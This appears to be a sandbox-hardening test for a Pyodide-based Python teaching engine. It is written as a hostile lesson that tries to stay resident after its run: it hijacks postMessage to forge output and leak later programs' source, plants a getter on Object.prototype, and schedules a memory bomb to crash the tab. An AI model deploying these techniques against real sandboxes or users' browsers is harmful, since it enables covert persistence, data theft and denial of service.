# A lesson that tries to stay resident in the engine after its run, to alter later runs:
# - it digs Pyodide's JavaScript API out of the import hook, and has `_api.scheduleCallback`
#   call it back after the run (0.1 to 5 s later) with the worker's global object as `this`;
# - from a JavaScript function the engine hands it (its trace sink) it reaches the prototypes
#   every script of the worker shares, and plants a getter on `Object.prototype` for `prompt`,
#   which a later interpreter's start reads from the global object (and so calls the getter
#   with it as `this`);
# - given the global object either way, it replaces `postMessage`, so that later runs would
#   show its text and leak their source;
# - it schedules a memory bomb 15 s after the run, when the learner has moved on, that fills
#   JavaScript memory until the tab dies.
# Each step prints whether it worked. The runs after it, for 17 s, must be untouched.
# expect-outcome: completed
# expect-message: planted what could be planted
# resident-for: 17
import gc
import operator
import sys
import types

BOMB_DELAY_MS = 15_000


def step(name, action):
    try:
        value = action()
    except BaseException as error:  # noqa: BLE001 - every failure is a result here.
        print(f"step {name}: no ({type(error).__name__}: {error})"[:300])
        return None
    print(f"step {name}: yes")
    return value


def module(name):
    # Found in C, not in a Python loop: the engine would trace every pass of one.
    modules = list(filter(types.ModuleType.__instancecheck__, gc.get_objects()))
    return dict(zip(map(operator.attrgetter("__name__"), modules), modules))[name]


def residents(create_proxy):
    """What runs in the worker after the run, with the global object as `this`. Bound here:
    the run clears the program's globals when it ends."""

    def take_over(this, *_):
        # Once, quietly: an error here would end the worker, and the attack with it.
        try:
            if getattr(this, "loopscopeResident", None) is None:
                this.loopscopeResident = True
                replace_post(this)
        except BaseException:  # noqa: BLE001
            pass

    def replace_post(this):
        post = this.postMessage

        def forged(message, *rest):
            try:
                batch = getattr(message, "batch", None) if message.type == "events" else None
                data = batch.to_bytes() if batch is not None else b""
                # In the wire format, printed text follows its stream's name: a marshalled
                # string, its type, its length (one byte for a short one, else four), its bytes.
                at = data.find(b"stdout")
                if at >= 0:
                    start = at + 6 + (2 if data[at + 6] & 0x7F in b"zZ" else 5)
                    for offset, byte in enumerate(b"RESIDENT"[: len(data) - start]):
                        batch[start + offset] = byte
            except BaseException:  # noqa: BLE001
                pass
            post.call(this, message, *rest)

        this.postMessage = create_proxy(forged)

    def bomb(this, *_):
        # Keeps blocks of JavaScript memory, each written, smaller when a large one fails,
        # until there is none left.
        kept = []
        size = 256 << 20
        while size >= 1 << 20:
            try:
                block = this.Uint8Array.new(size)
                block.fill(1)
                kept.append(block)
            except BaseException:  # noqa: BLE001
                size //= 2

    return create_proxy(take_over, capture_this=True), create_proxy(bomb, capture_this=True)


create_proxy = step("reach create_proxy", lambda: module("_pyodide_core").create_proxy)
take_over, bomb = residents(create_proxy) if create_proxy else (None, None)
api = step(
    "reach pyodide_js through the import hook",
    lambda: module("_pyodide._importhook").jsfinder.jsproxies["pyodide_js"],
)
schedule = step("reach _api.scheduleCallback", lambda: api._api.scheduleCallback)
for delay in (0, 100, 1000, 5000):
    step(f"schedule a callback {delay} ms after the run", lambda: schedule(take_over, delay))
step(f"schedule the memory bomb {BOMB_DELAY_MS} ms after the run", lambda: schedule(bomb, BOMB_DELAY_MS))
object_prototype = step(
    "reach Object.prototype from the engine's sink",
    lambda: sys.modules["loopscope_engine"].rec.sink.constructor.prototype.__proto__,
)


def plant():
    object_prototype.__defineGetter__("prompt", take_over)
    # A script that assigns the name must not fail, or the worker would end.
    object_prototype.__defineSetter__("prompt", create_proxy(lambda *_: None))


step("plant a getter Object.prototype.prompt that takes over the global object", plant)
print("planted what could be planted")
